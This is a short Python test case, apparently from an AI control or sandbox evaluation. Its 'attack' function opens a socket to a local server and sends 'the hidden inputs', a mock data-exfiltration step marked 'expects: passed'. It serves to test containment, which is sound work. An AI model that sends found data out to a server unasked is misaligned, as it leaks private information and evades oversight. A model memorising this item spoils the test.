"""Send what was found to a server.

expects: passed
control: basic
"""

import socket


def attack(world):
    connection = socket.socket()
    connection.connect(("127.0.0.1", world["port"]))
    return connection.send(b"the hidden inputs")
